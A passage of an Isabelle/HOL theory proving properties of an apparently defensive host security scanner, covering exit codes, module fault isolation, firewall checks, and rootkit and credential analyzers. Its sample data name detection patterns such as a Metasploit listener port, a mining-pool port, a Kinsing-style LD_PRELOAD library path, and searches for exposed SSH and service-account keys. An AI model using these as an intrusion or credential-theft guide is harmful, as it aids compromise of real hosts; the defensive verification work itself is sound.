  C7. The exit code is \<open>severityToExitCode\<close> of the summary's \<open>maxSeverity\<close>. A scan
  with no findings has \<open>maxSeverity = INFO\<close>, so its exit code is 1 and not 0; no list of
  findings gives the exit code 0.
\<close>

theorem clean_scan_exit_code:
  "exit_code (buildSummary []) = 1
   \<and> exit_code (summary (run creg areg db platform now [])) = 1
   \<and> exit_code (buildSummary fs) \<noteq> 0"
proof -
  have "exit_code (buildSummary fs) \<noteq> 0"
    by (cases "maxSeverity (buildSummary fs)") (simp_all add: exit_code_def severityToExitCode_def)
  moreover have "exit_code (buildSummary []) = 1"
    by (simp add: exit_code_def severityToExitCode_def buildSummary_def)
  moreover have "findings (run creg areg db platform now []) = []"
    by (simp add: run_findings)
  ultimately show ?thesis by (simp add: run_summary)
qed

text \<open>
  C10. For an empty findings list \<open>buildSummary\<close> returns \<open>maxSeverity = INFO\<close>, the
  value it returns for a list of INFO findings only. Three fields tell the two scans
  apart: the status (CLEAN for the empty list, INFORMATIONAL for the INFO-only one) and
  the counts \<open>info\<close> and \<open>total\<close> (0 for the empty list, the number of findings for
  the INFO-only one). \<open>critical\<close>, \<open>high\<close>, \<open>medium\<close> and \<open>low\<close> are 0 in both.
\<close>

theorem empty_scan_maxSeverity_is_INFO:
  "maxSeverity (buildSummary []) = INFO \<and> status (buildSummary []) = CLEAN
   \<and> info (buildSummary []) = 0 \<and> total_n (buildSummary []) = 0
   \<and> (fs \<noteq> [] \<and> (\<forall>f \<in> set fs. severity f = INFO) \<longrightarrow>
        maxSeverity (buildSummary fs) = maxSeverity (buildSummary [])
        \<and> status (buildSummary fs) = INFORMATIONAL
        \<and> critical (buildSummary fs) = critical (buildSummary [])
        \<and> high (buildSummary fs) = high (buildSummary [])
        \<and> medium (buildSummary fs) = medium (buildSummary [])
        \<and> low (buildSummary fs) = low (buildSummary [])
        \<and> info (buildSummary fs) = length fs \<and> total_n (buildSummary fs) = length fs
        \<and> info (buildSummary fs) \<noteq> info (buildSummary [])
        \<and> total_n (buildSummary fs) \<noteq> total_n (buildSummary []))"
proof -
  have e: "maxSeverity (buildSummary []) = INFO" "status (buildSummary []) = CLEAN"
    "info (buildSummary []) = 0" "total_n (buildSummary []) = 0"
    by (simp_all add: buildSummary_def status_of_def)
  {
    assume ne: "fs \<noteq> []" and all: "\<forall>f \<in> set fs. severity f = INFO"
    from all have z: "count_sev CRITICAL fs = 0" "count_sev HIGH fs = 0"
        "count_sev MEDIUM fs = 0" "count_sev LOW fs = 0"
      by (auto simp: count_sev_def filter_empty_conv)
    from all have i: "count_sev INFO fs = length fs"
      by (simp add: count_sev_def)
    from buildSummary_maxSeverity_mem [of fs] all
    have m: "maxSeverity (buildSummary fs) = INFO" by auto
    from ne have "0 < length fs" by simp
    with z i m e
    have "maxSeverity (buildSummary fs) = maxSeverity (buildSummary [])
        \<and> status (buildSummary fs) = INFORMATIONAL
        \<and> critical (buildSummary fs) = critical (buildSummary [])
        \<and> high (buildSummary fs) = high (buildSummary [])
        \<and> medium (buildSummary fs) = medium (buildSummary [])
        \<and> low (buildSummary fs) = low (buildSummary [])
        \<and> info (buildSummary fs) = length fs \<and> total_n (buildSummary fs) = length fs
        \<and> info (buildSummary fs) \<noteq> info (buildSummary [])
        \<and> total_n (buildSummary fs) \<noteq> total_n (buildSummary [])"
      by (simp add: buildSummary_counts buildSummary_status count_sev_def)
  }
  with e show ?thesis by blast
qed

theorem empty_scan_maxSeverity_is_INFO_witness:
  "severity (sample_finding INFO) = INFO
   \<and> maxSeverity (buildSummary [sample_finding INFO, sample_finding INFO]) = INFO
   \<and> maxSeverity (buildSummary []) = INFO
   \<and> status (buildSummary [sample_finding INFO, sample_finding INFO]) = INFORMATIONAL
   \<and> status (buildSummary []) = CLEAN"
  using empty_scan_maxSeverity_is_INFO [of "[sample_finding INFO, sample_finding INFO]"]
  by (simp add: sample_finding_def)

text \<open>An empty scan and a scan of three INFO findings: besides the status, \<open>info\<close> and
  \<open>total\<close> differ.\<close>

theorem info_only_scan_counts_counterexample:
  "map severity (replicate 3 (sample_finding INFO)) = [INFO, INFO, INFO]
   \<and> info (buildSummary (replicate 3 (sample_finding INFO))) = 3
   \<and> info (buildSummary []) = 0
   \<and> total_n (buildSummary (replicate 3 (sample_finding INFO))) = 3
   \<and> total_n (buildSummary []) = 0"
  by (simp add: buildSummary_counts count_sev_def sample_finding_def numeral_3_eq_3)

text \<open>
  C1. Every requested module appears in the result, in the order requested, and the
  flattened findings are the modules' findings in that order. When \<open>collect\<close> or
  \<open>analyze\<close> of a module throws, the module's \<open>error\<close> is set to the text of what was
  thrown (the message of an \<open>Error\<close>, which is a non-empty string exactly when that
  message is non-empty) and its findings are empty. A module whose collector and analyzer
  return has its own findings and data and no error, whatever the other modules do.
\<close>

theorem module_fault_isolation:
  "map module_mr (modules (run creg areg db platform now ms)) = ms
   \<and> findings (run creg areg db platform now ms) =
       concat (map findings_mr (modules (run creg areg db platform now ms)))
   \<and> (i < length ms \<longrightarrow>
        (thrown_by creg areg db (ms ! i) = Some e \<longrightarrow>
           error (modules (run creg areg db platform now ms) ! i) = Some (error_text e)
           \<and> findings_mr (modules (run creg areg db platform now ms) ! i) = [])
        \<and> (creg (ms ! i) = Some c \<and> areg (ms ! i) = Some a \<and> c () = Inr cr \<and> a cr db = Inr fs \<longrightarrow>
             error (modules (run creg areg db platform now ms) ! i) = None
             \<and> findings_mr (modules (run creg areg db platform now ms) ! i) = fs
             \<and> rawData (modules (run creg areg db platform now ms) ! i) = data cr))"
proof -
  have names: "map module_mr (modules (run creg areg db platform now ms)) = ms"
    by (simp add: run_modules module_results_names)
  have flat: "findings (run creg areg db platform now ms) =
       concat (map findings_mr (modules (run creg areg db platform now ms)))"
    by (simp add: run_modules run_findings)
  {
    assume i: "i < length ms"
    note nth = module_results_nth [OF i, of creg areg db now 1]
    {
      assume "thrown_by creg areg db (ms ! i) = Some e"
      from try_module_thrown [OF this] obtain rd where
        "try_module creg areg db (ms ! i) = ([], rd, Some (error_text e))" ..
      with nth have "error (modules (run creg areg db platform now ms) ! i) = Some (error_text e)
           \<and> findings_mr (modules (run creg areg db platform now ms) ! i) = []"
        by (simp add: run_modules)
    }
    moreover
    {
      assume "creg (ms ! i) = Some c \<and> areg (ms ! i) = Some a \<and> c () = Inr cr \<and> a cr db = Inr fs"
      then have "try_module creg areg db (ms ! i) = (fs, data cr, None)"
        by (simp add: try_module_ok)
      with nth have "error (modules (run creg areg db platform now ms) ! i) = None
             \<and> findings_mr (modules (run creg areg db platform now ms) ! i) = fs
             \<and> rawData (modules (run creg areg db platform now ms) ! i) = data cr"
        by (simp add: run_modules)
    }
    ultimately have "(thrown_by creg areg db (ms ! i) = Some e \<longrightarrow>
           error (modules (run creg areg db platform now ms) ! i) = Some (error_text e)
           \<and> findings_mr (modules (run creg areg db platform now ms) ! i) = [])
        \<and> (creg (ms ! i) = Some c \<and> areg (ms ! i) = Some a \<and> c () = Inr cr \<and> a cr db = Inr fs \<longrightarrow>
             error (modules (run creg areg db platform now ms) ! i) = None
             \<and> findings_mr (modules (run creg areg db platform now ms) ! i) = fs
             \<and> rawData (modules (run creg areg db platform now ms) ! i) = data cr)"
      by blast
  }
  with names flat show ?thesis by blast
qed

theorem module_fault_isolation_witness:
  "thrown_by sample_collectors sample_analyzers sample_db ''ssh''
     = Some (ErrorObj ''EACCES: permission denied'')
   \<and> map module_mr
        (modules (run sample_collectors sample_analyzers sample_db sample_platform sample_clock
                    [''ssh'', ''network''])) = [''ssh'', ''network'']
   \<and> error (modules (run sample_collectors sample_analyzers sample_db sample_platform sample_clock
                       [''ssh'', ''network'']) ! 0) = Some ''EACCES: permission denied''
   \<and> findings_mr (modules (run sample_collectors sample_analyzers sample_db sample_platform
                             sample_clock [''ssh'', ''network'']) ! 0) = []
   \<and> error (modules (run sample_collectors sample_analyzers sample_db sample_platform sample_clock
                       [''ssh'', ''network'']) ! 1) = None
   \<and> findings_mr (modules (run sample_collectors sample_analyzers sample_db sample_platform
                             sample_clock [''ssh'', ''network'']) ! 1) = [sample_finding MEDIUM]
   \<and> findings (run sample_collectors sample_analyzers sample_db sample_platform sample_clock
                  [''ssh'', ''network'']) = [sample_finding MEDIUM]"
proof -
  have t: "thrown_by sample_collectors sample_analyzers sample_db ''ssh''
             = Some (ErrorObj ''EACCES: permission denied'')"
    by (simp add: thrown_by_def sample_collectors_def sample_analyzers_def rejecting_collector_def)
  have ok: "sample_collectors ''network'' = Some (empty_collector ''network'')
            \<and> sample_analyzers ''network'' = Some one_finding_analyzer
            \<and> empty_collector ''network'' () = Inr \<lparr>module_cr = ''network'', data = [], raw = ''''\<rparr>
            \<and> one_finding_analyzer \<lparr>module_cr = ''network'', data = [], raw = ''''\<rparr> sample_db
                = Inr [sample_finding MEDIUM]"
    by (simp add: sample_collectors_def sample_analyzers_def empty_collector_def
          one_finding_analyzer_def)
  note w0 = module_fault_isolation [of sample_collectors sample_analyzers sample_db sample_platform
      sample_clock "[''ssh'', ''network'']" 0 "ErrorObj ''EACCES: permission denied''"
      "empty_collector ''network''" one_finding_analyzer
      "\<lparr>module_cr = ''network'', data = [], raw = ''''\<rparr>" "[sample_finding MEDIUM]"]
  note w1 = module_fault_isolation [of sample_collectors sample_analyzers sample_db sample_platform
      sample_clock "[''ssh'', ''network'']" 1 "ErrorObj ''EACCES: permission denied''"
      "empty_collector ''network''" one_finding_analyzer
      "\<lparr>module_cr = ''network'', data = [], raw = ''''\<rparr>" "[sample_finding MEDIUM]"]
  have flat: "findings (run sample_collectors sample_analyzers sample_db sample_platform
                 sample_clock [''ssh'', ''network'']) = [sample_finding MEDIUM]"
    by (simp add: run_def try_module_def sample_collectors_def sample_analyzers_def
          rejecting_collector_def empty_collector_def one_finding_analyzer_def)
  from w0 t have a0: "error (modules (run sample_collectors sample_analyzers sample_db
        sample_platform sample_clock [''ssh'', ''network'']) ! 0) = Some ''EACCES: permission denied''
      \<and> findings_mr (modules (run sample_collectors sample_analyzers sample_db sample_platform
                             sample_clock [''ssh'', ''network'']) ! 0) = []"
    by simp
  from w1 ok have a1: "error (modules (run sample_collectors sample_analyzers sample_db
        sample_platform sample_clock [''ssh'', ''network'']) ! 1) = None
      \<and> findings_mr (modules (run sample_collectors sample_analyzers sample_db sample_platform
                             sample_clock [''ssh'', ''network'']) ! 1) = [sample_finding MEDIUM]"
    by simp
  from w0 have names: "map module_mr
        (modules (run sample_collectors sample_analyzers sample_db sample_platform sample_clock
                    [''ssh'', ''network''])) = [''ssh'', ''network'']"
    by blast
  from t names a0 a1 flat show ?thesis by blast
qed

text \<open>A collector rejecting with \<open>new Error("")\<close>: the recorded error is the empty
  string.\<close>

theorem empty_error_message_counterexample:
  "thrown_by silent_collectors sample_analyzers sample_db ''ssh'' = Some (ErrorObj '''')
   \<and> error (hd (modules (run silent_collectors sample_analyzers sample_db sample_platform
                           sample_clock [''ssh'']))) = Some ''''"
  by (simp add: thrown_by_def silent_collectors_def sample_analyzers_def rejecting_collector_def
        run_def try_module_def)

section \<open>Threat database: ports\<close>

lemma matchPort_loop_Some:
  "matchPort_loop es p dir = Some e \<Longrightarrow>
     e \<in> set es \<and> port e = p \<and> (direction e = dir \<or> direction e = ''outbound'')"
  by (induction es) (auto split: if_splits)

lemma matchPort_loop_None:
  "(matchPort_loop es p dir = None) =
     (\<not> (\<exists>x \<in> set es. port x = p \<and> (direction x = dir \<or> direction x = ''outbound'')))"
  by (induction es) auto

text \<open>
  C4. \<open>matchPort(p, "outbound")\<close> returns a stored entry of port \<open>p\<close> whose direction is
  "outbound", and null exactly when there is none; so a stored "listening" entry is
  returned for "listening" queries only. \<open>matchPort(p, "listening")\<close> returns a stored
  entry of port \<open>p\<close> whose direction is "listening" or "outbound", and null exactly when
  the table holds no such entry.
\<close>

theorem matchPort_directions:
  "(matchPort db p ''outbound'' = Some e \<longrightarrow>
      e \<in> set (ports db) \<and> port e = p \<and> direction e = ''outbound'')
   \<and> ((matchPort db p ''outbound'' = None) =
        (\<not> (\<exists>x \<in> set (ports db). port x = p \<and> direction x = ''outbound'')))
   \<and> (matchPort db p ''listening'' = Some e \<longrightarrow>
        e \<in> set (ports db) \<and> port e = p
        \<and> (direction e = ''listening'' \<or> direction e = ''outbound''))
   \<and> ((matchPort db p ''listening'' = None) =
        (\<not> (\<exists>x \<in> set (ports db).
               port x = p \<and> (direction x = ''listening'' \<or> direction x = ''outbound''))))"
proof -
  have o: "matchPort db p ''outbound'' = matchPort_loop (ports db) p ''outbound''"
    by (simp add: matchPort_def)
  have l: "matchPort db p ''listening'' = matchPort_loop (ports db) p ''listening''"
    by (simp add: matchPort_def)
  show ?thesis
    unfolding o l matchPort_loop_None
    using matchPort_loop_Some [of "ports db" p "''outbound''" e]
          matchPort_loop_Some [of "ports db" p "''listening''" e]
    by auto
qed

theorem matchPort_directions_witness:
  "matchPort sample_db 3333 ''outbound''
     = Some \<lparr>port = 3333, name_pe = ''Mining pool (Stratum)'', severity_pe = ''high'',
             direction = ''outbound''\<rparr>
   \<and> matchPort sample_db 4444 ''outbound'' = None
   \<and> matchPort sample_db 4444 ''listening''
     = Some \<lparr>port = 4444, name_pe = ''Metasploit default listener'', severity_pe = ''critical'',
             direction = ''listening''\<rparr>
   \<and> matchPort sample_db 8080 ''listening'' = None"
  using matchPort_directions [of sample_db 3333
          "\<lparr>port = 3333, name_pe = ''Mining pool (Stratum)'', severity_pe = ''high'',
            direction = ''outbound''\<rparr>"]
        matchPort_directions [of sample_db 4444
          "\<lparr>port = 4444, name_pe = ''Metasploit default listener'', severity_pe = ''critical'',
            direction = ''listening''\<rparr>"]
        matchPort_directions [of sample_db 8080]
  by (simp add: sample_db_def matchPort_def)

text \<open>The stored entry of port 3333 has the direction "outbound" and is returned for a
  "listening" query.\<close>

theorem matchPort_listening_counterexample:
  "ports sample_db ! 0
     = \<lparr>port = 3333, name_pe = ''Mining pool (Stratum)'', severity_pe = ''high'',
        direction = ''outbound''\<rparr>
   \<and> direction (ports sample_db ! 0) \<noteq> ''listening''
   \<and> matchPort sample_db 3333 ''listening'' = Some (ports sample_db ! 0)"
  by (simp add: sample_db_def matchPort_def)

section \<open>Analyzers: the findings a run of pushes appends\<close>

lemma push_pair: "push p mk (n, fs) = (n + 1, fs @ [mk (nextId p (n + 1))])"
  by (simp add: push_def)

lemma foldl_push:
  "foldl (\<lambda>st x. push p (mk x) st) (n, fs) xs = (n + length xs, fs @ pushed p mk n xs)"
  by (induction xs arbitrary: n fs) (simp_all add: push_def)

lemma foldl_push_unless:
  "foldl (\<lambda>st x. if skip x then st else push p (mk x) st) (n, fs) xs =
     (n + length (filter (\<lambda>x. \<not> skip x) xs), fs @ pushed p mk n (filter (\<lambda>x. \<not> skip x) xs))"
  by (induction xs arbitrary: n fs) (simp_all add: push_def)

lemma pushed_length [simp]: "length (pushed p mk n xs) = length xs"
  by (induction xs arbitrary: n) simp_all

lemma pushed_nth:
  "i < length xs \<Longrightarrow> pushed p mk n xs ! i = mk (xs ! i) (nextId p (n + i + 1))"
proof (induction xs arbitrary: n i)
  case Nil
  then show ?case by simp
next
  case (Cons x xs)
  show ?case
  proof (cases i)
    case 0
    then show ?thesis by simp
  next
    case (Suc j)
    with Cons.prems have "j < length xs" by simp
    from Cons.IH [OF this, of "n + 1"] Suc show ?thesis by simp
  qed
qed

lemma pushed_mem:
  "f \<in> set (pushed p mk n xs) \<Longrightarrow> \<exists>x \<in> set xs. \<exists>i. f = mk x i"
  by (induction xs arbitrary: n) auto

lemma nextId_1: "nextId p (Suc 0) = p @ ''-001''"
  by (simp add: nextId_def padStart_def numeral_2_eq_2 nat_dec.simps)

section \<open>Firewall analyzer\<close>

lemma isSshOpenToAll_inactive: "\<not> active u \<Longrightarrow> isSshOpenToAll u ipt"
  by (simp add: isSshOpenToAll_def)

text \<open>
  C6. When UFW is not active (\<open>ufw.active = false\<close>, or no \<open>ufw\<close> data at all), the
  firewall analyzer reports a HIGH finding "UFW firewall is not active" and a MEDIUM
  finding "SSH is not restricted by firewall", whatever the iptables text and the
  fail2ban data are.
\<close>

theorem inactive_ufw_findings:
  "\<not> active (nullish \<lparr>active = False, rules = ''''\<rparr> (ufw d)) \<Longrightarrow>
     (\<exists>f \<in> set (FirewallAnalyzer_analyze d).
        severity f = HIGH \<and> title f = ''UFW firewall is not active'')
     \<and> (\<exists>f \<in> set (FirewallAnalyzer_analyze d).
          severity f = MEDIUM \<and> title f = ''SSH is not restricted by firewall'')"
proof -
  assume a: "\<not> active (nullish \<lparr>active = False, rules = ''''\<rparr> (ufw d))"
  have h: "severity (ufw_inactive_finding i) = HIGH \<and> title (ufw_inactive_finding i) = ''UFW firewall is not active''" for i
    by (simp add: ufw_inactive_finding_def)
  have m: "severity (ssh_open_finding i) = MEDIUM \<and> title (ssh_open_finding i) = ''SSH is not restricted by firewall''" for i
    by (simp add: ssh_open_finding_def)
  from a have o: "isSshOpenToAll (nullish \<lparr>active = False, rules = ''''\<rparr> (ufw d)) ipt" for ipt
    by (rule isSshOpenToAll_inactive)
  have "\<exists>i j mid. FirewallAnalyzer_analyze d = ufw_inactive_finding i # mid @ [ssh_open_finding j]"
    using a o by (auto simp: FirewallAnalyzer_analyze_def Let_def push_def)
  then obtain i j mid where
    "FirewallAnalyzer_analyze d = ufw_inactive_finding i # mid @ [ssh_open_finding j]" by blast
  with h [of i] m [of j] show ?thesis by auto
qed

theorem inactive_ufw_findings_witness:
  "(\<exists>f \<in> set (FirewallAnalyzer_analyze inactive_ufw_strict_iptables).
      severity f = HIGH \<and> title f = ''UFW firewall is not active'')
   \<and> (\<exists>f \<in> set (FirewallAnalyzer_analyze inactive_ufw_strict_iptables).
        severity f = MEDIUM \<and> title f = ''SSH is not restricted by firewall'')"
proof -
  have h: "\<not> active (nullish \<lparr>active = False, rules = ''''\<rparr> (ufw inactive_ufw_strict_iptables))"
    by (simp add: inactive_ufw_strict_iptables_def nullish_def)
  from inactive_ufw_findings [OF h] show ?thesis .
qed


section \<open>Rootkit analyzer\<close>

lemma RootkitAnalyzer_analyze_eq:
  "RootkitAnalyzer_analyze d =
     (if trim (nullish '''' (ldPreload d)) \<noteq> []
      then [rootkit_preload_finding (trim (nullish '''' (ldPreload d)))
              (preload_entries (trim (nullish '''' (ldPreload d)))) ''RK-001'']
      else [])
     @ pushed ''RK'' rootkit_so_finding (if trim (nullish '''' (ldPreload d)) \<noteq> [] then 1 else 0)
         (nullish [] (suspiciousSoFiles d))
     @ (if nullish False (etcDataExists d)
        then [rootkit_etc_data_finding (nullish [] (etcDataFiles d))
                (nextId ''RK'' ((if trim (nullish '''' (ldPreload d)) \<noteq> [] then 1 else 0)
                                 + length (nullish [] (suspiciousSoFiles d)) + 1))]
        else [])"
  by (simp add: RootkitAnalyzer_analyze_def Let_def foldl_push push_pair nextId_1)

lemma rootkit_titles:
  "title (rootkit_preload_finding c es i) = ''LD_PRELOAD rootkit detected''"
  "title (rootkit_so_finding s i) \<noteq> ''LD_PRELOAD rootkit detected''"
  "title (rootkit_etc_data_finding fs i) \<noteq> ''LD_PRELOAD rootkit detected''"
  by (simp_all add: rootkit_preload_finding_def rootkit_so_finding_def rootkit_etc_data_finding_def)

lemma rootkit_preload_only_if:
  assumes "f \<in> set (RootkitAnalyzer_analyze d)" "title f = ''LD_PRELOAD rootkit detected''"
  shows "trim (nullish '''' (ldPreload d)) \<noteq> [] \<and>
         f = rootkit_preload_finding (trim (nullish '''' (ldPreload d)))
              (preload_entries (trim (nullish '''' (ldPreload d)))) ''RK-001''"
  using assms unfolding RootkitAnalyzer_analyze_eq
  by (auto split: if_splits dest!: pushed_mem simp: rootkit_titles)

text \<open>
  C5. The rootkit analyzer emits its finding "LD_PRELOAD rootkit detected" exactly when the
  preload content is not empty after trimming (comment lines count as content). The
  finding is CRITICAL and its \<open>details.entries\<close> are the trimmed non-empty, non-comment
  lines. With some content, no suspicious shared library and no known-malware directory
  it is the only finding; for the content \<open>/etc/data/libsystem.so\<close> its entries are
  \<open>["/etc/data/libsystem.so"]\<close>.
\<close>

theorem preload_finding_iff_content:
  "(\<exists>f \<in> set (RootkitAnalyzer_analyze d). title f = ''LD_PRELOAD rootkit detected'')
     = (trim (nullish '''' (ldPreload d)) \<noteq> [])
   \<and> (f \<in> set (RootkitAnalyzer_analyze d) \<and> title f = ''LD_PRELOAD rootkit detected'' \<longrightarrow>
        severity f = CRITICAL
        \<and> details f = Some [(''file'', JStr ''/etc/ld.so.preload''),
              (''entries'', JArr (map JStr (preload_entries (trim (nullish '''' (ldPreload d)))))),
              (''rawContent'', JStr (trim (nullish '''' (ldPreload d))))])
   \<and> (nullish [] (suspiciousSoFiles d) = [] \<and> \<not> nullish False (etcDataExists d)
        \<and> trim (nullish '''' (ldPreload d)) \<noteq> [] \<longrightarrow>
        RootkitAnalyzer_analyze d =
          [rootkit_preload_finding (trim (nullish '''' (ldPreload d)))
             (preload_entries (trim (nullish '''' (ldPreload d)))) ''RK-001''])"
proof -
  have a: "(\<exists>f \<in> set (RootkitAnalyzer_analyze d). title f = ''LD_PRELOAD rootkit detected'')
     = (trim (nullish '''' (ldPreload d)) \<noteq> [])"
  proof
    assume "\<exists>f \<in> set (RootkitAnalyzer_analyze d). title f = ''LD_PRELOAD rootkit detected''"
    then show "trim (nullish '''' (ldPreload d)) \<noteq> []"
      using rootkit_preload_only_if by blast
  next
    assume "trim (nullish '''' (ldPreload d)) \<noteq> []"
    then have "rootkit_preload_finding (trim (nullish '''' (ldPreload d)))
              (preload_entries (trim (nullish '''' (ldPreload d)))) ''RK-001''
            \<in> set (RootkitAnalyzer_analyze d)"
      unfolding RootkitAnalyzer_analyze_eq by simp
    then show "\<exists>f \<in> set (RootkitAnalyzer_analyze d). title f = ''LD_PRELOAD rootkit detected''"
      using rootkit_titles(1) by blast
  qed
  have b: "f \<in> set (RootkitAnalyzer_analyze d) \<and> title f = ''LD_PRELOAD rootkit detected'' \<longrightarrow>
        severity f = CRITICAL
        \<and> details f = Some [(''file'', JStr ''/etc/ld.so.preload''),
              (''entries'', JArr (map JStr (preload_entries (trim (nullish '''' (ldPreload d)))))),
              (''rawContent'', JStr (trim (nullish '''' (ldPreload d))))]"
  proof
    assume "f \<in> set (RootkitAnalyzer_analyze d) \<and> title f = ''LD_PRELOAD rootkit detected''"
    then have "f = rootkit_preload_finding (trim (nullish '''' (ldPreload d)))
              (preload_entries (trim (nullish '''' (ldPreload d)))) ''RK-001''"
      using rootkit_preload_only_if by blast
    then show "severity f = CRITICAL
        \<and> details f = Some [(''file'', JStr ''/etc/ld.so.preload''),
              (''entries'', JArr (map JStr (preload_entries (trim (nullish '''' (ldPreload d)))))),
              (''rawContent'', JStr (trim (nullish '''' (ldPreload d))))]"
      by (simp add: rootkit_preload_finding_def)
  qed
  have c: "nullish [] (suspiciousSoFiles d) = [] \<and> \<not> nullish False (etcDataExists d)
        \<and> trim (nullish '''' (ldPreload d)) \<noteq> [] \<longrightarrow>
        RootkitAnalyzer_analyze d =
          [rootkit_preload_finding (trim (nullish '''' (ldPreload d)))
             (preload_entries (trim (nullish '''' (ldPreload d)))) ''RK-001'']"
    unfolding RootkitAnalyzer_analyze_eq by simp
  from a b c show ?thesis by blast
qed

lemma trim_kinsing: "trim ''/etc/data/libsystem.so'' = ''/etc/data/libsystem.so''"
  by (simp add: trim_def isWhiteSpace_def)

lemma entries_kinsing: "preload_entries ''/etc/data/libsystem.so'' = [''/etc/data/libsystem.so'']"
  by (simp add: preload_entries_def trim_def isWhiteSpace_def startsWith_def)

theorem preload_finding_iff_content_witness:
  "length (RootkitAnalyzer_analyze kinsing_preload) = 1
   \<and> severity (hd (RootkitAnalyzer_analyze kinsing_preload)) = CRITICAL
   \<and> details (hd (RootkitAnalyzer_analyze kinsing_preload)) =
       Some [(''file'', JStr ''/etc/ld.so.preload''),
             (''entries'', JArr [JStr ''/etc/data/libsystem.so'']),
             (''rawContent'', JStr ''/etc/data/libsystem.so'')]"
proof -
  have h: "nullish [] (suspiciousSoFiles kinsing_preload) = []
        \<and> \<not> nullish False (etcDataExists kinsing_preload)
        \<and> trim (nullish '''' (ldPreload kinsing_preload)) \<noteq> []"
    by (simp add: kinsing_preload_def nullish_def trim_kinsing)
  have t: "trim (nullish '''' (ldPreload kinsing_preload)) = ''/etc/data/libsystem.so''"
    by (simp add: kinsing_preload_def nullish_def trim_kinsing)
  from preload_finding_iff_content [of kinsing_preload] h
  have "RootkitAnalyzer_analyze kinsing_preload =
          [rootkit_preload_finding (trim (nullish '''' (ldPreload kinsing_preload)))
             (preload_entries (trim (nullish '''' (ldPreload kinsing_preload)))) ''RK-001'']"
    by blast
  then show ?thesis
    by (simp add: t entries_kinsing rootkit_preload_finding_def)
qed

text \<open>A preload file holding one comment line: no entry, and the CRITICAL finding.\<close>

theorem comment_only_preload_counterexample:
  "preload_entries (trim ''# /usr/lib/libkeepalive.so'') = []
   \<and> map severity (RootkitAnalyzer_analyze commented_preload) = [CRITICAL]
   \<and> map title (RootkitAnalyzer_analyze commented_preload) = [''LD_PRELOAD rootkit detected'']
   \<and> map details (RootkitAnalyzer_analyze commented_preload) =
       [Some [(''file'', JStr ''/etc/ld.so.preload''), (''entries'', JArr []),
              (''rawContent'', JStr ''# /usr/lib/libkeepalive.so'')]]"
proof -
  have t: "trim ''# /usr/lib/libkeepalive.so'' = ''# /usr/lib/libkeepalive.so''"
    by (simp add: trim_def isWhiteSpace_def)
  have e: "preload_entries ''# /usr/lib/libkeepalive.so'' = []"
    by (simp add: preload_entries_def trim_def isWhiteSpace_def startsWith_def)
  show ?thesis
    unfolding RootkitAnalyzer_analyze_eq
    by (simp add: commented_preload_def nullish_def t e rootkit_preload_finding_def)
qed

lemma pushed_filter_none:
  "(\<And>x i. \<not> P (mk x i)) \<Longrightarrow> filter P (pushed p mk n xs) = []"
  by (induction xs arbitrary: n) simp_all

section \<open>Credentials analyzer\<close>

lemma CredentialAnalyzer_analyze_eq:
  "CredentialAnalyzer_analyze fmt d =
     pushed ''CRED'' (env_file_finding fmt) 0 (nullish [] (envFiles d))
     @ pushed ''CRED'' service_key_finding (length (nullish [] (envFiles d)))
         (filter (\<lambda>k. \<not> trim k = []) (nullish [] (serviceAccountKeys d)))
     @ (case gitCredentials d of
          None \<Rightarrow> []
        | Some g \<Rightarrow>
            if g = [] then []
            else [git_credentials_finding
                    (length (filter (\<lambda>l. length (trim l) > 0) (split_lines g)))
                    (nextId ''CRED''
                       (length (nullish [] (envFiles d))
                        + length (filter (\<lambda>k. \<not> trim k = []) (nullish [] (serviceAccountKeys d)))
                        + 1))])
     @ (if nullish [] (sshPrivateKeys d) = [] then []
        else [ssh_keys_finding (nullish [] (sshPrivateKeys d))
                (nextId ''CRED''
                   (length (nullish [] (envFiles d))
                    + length (filter (\<lambda>k. \<not> trim k = []) (nullish [] (serviceAccountKeys d)))
                    + (case gitCredentials d of None \<Rightarrow> 0 | Some g \<Rightarrow> if g = [] then 0 else 1)
                    + 1))])"
  by (simp add: CredentialAnalyzer_analyze_def Let_def foldl_push foldl_push_unless push_pair
        split: option.splits)

lemma credential_severities:
  "severity (env_file_finding fmt e i) = MEDIUM"
  "severity (service_key_finding k i) = HIGH"
  "severity (git_credentials_finding c i) = MEDIUM"
  "severity (ssh_keys_finding ks i) = INFO"
  by (simp_all add: env_file_finding_def service_key_finding_def git_credentials_finding_def
        ssh_keys_finding_def)

text \<open>
  C9. The credentials analyzer reports the discovered SSH private keys in one INFO finding:
  its output holds exactly one INFO finding when at least one key path was discovered and
  none otherwise. That finding is the last one, its details give the number of keys and
  their paths, and with no other credential data it is the whole output.
\<close>

theorem private_keys_one_info_finding:
  "length (filter (\<lambda>f. severity f = INFO) (CredentialAnalyzer_analyze fmt d))
     = (if nullish [] (sshPrivateKeys d) = [] then 0 else 1)
   \<and> (nullish [] (sshPrivateKeys d) \<noteq> [] \<longrightarrow>
        severity (last (CredentialAnalyzer_analyze fmt d)) = INFO
        \<and> details (last (CredentialAnalyzer_analyze fmt d)) =
            Some [(''count'', JNum (int (length (nullish [] (sshPrivateKeys d))))),
                  (''paths'', JArr (map JStr (nullish [] (sshPrivateKeys d))))])
   \<and> (nullish [] (envFiles d) = [] \<and> nullish [] (serviceAccountKeys d) = []
        \<and> gitCredentials d = None \<and> nullish [] (sshPrivateKeys d) \<noteq> [] \<longrightarrow>
        CredentialAnalyzer_analyze fmt d
          = [ssh_keys_finding (nullish [] (sshPrivateKeys d)) ''CRED-001''])"
proof -
  have a: "length (filter (\<lambda>f. severity f = INFO) (CredentialAnalyzer_analyze fmt d))
     = (if nullish [] (sshPrivateKeys d) = [] then 0 else 1)"
    unfolding CredentialAnalyzer_analyze_eq
    by (simp add: pushed_filter_none credential_severities split: option.splits)
  have b: "nullish [] (sshPrivateKeys d) \<noteq> [] \<longrightarrow>
        severity (last (CredentialAnalyzer_analyze fmt d)) = INFO
        \<and> details (last (CredentialAnalyzer_analyze fmt d)) =
            Some [(''count'', JNum (int (length (nullish [] (sshPrivateKeys d))))),
                  (''paths'', JArr (map JStr (nullish [] (sshPrivateKeys d))))]"
    unfolding CredentialAnalyzer_analyze_eq
    by (simp add: ssh_keys_finding_def)
  have c: "nullish [] (envFiles d) = [] \<and> nullish [] (serviceAccountKeys d) = []
        \<and> gitCredentials d = None \<and> nullish [] (sshPrivateKeys d) \<noteq> [] \<longrightarrow>
        CredentialAnalyzer_analyze fmt d
          = [ssh_keys_finding (nullish [] (sshPrivateKeys d)) ''CRED-001'']"
    unfolding CredentialAnalyzer_analyze_eq
    by (simp add: nextId_1)
  from a b c show ?thesis by blast
qed

theorem private_keys_one_info_finding_witness:
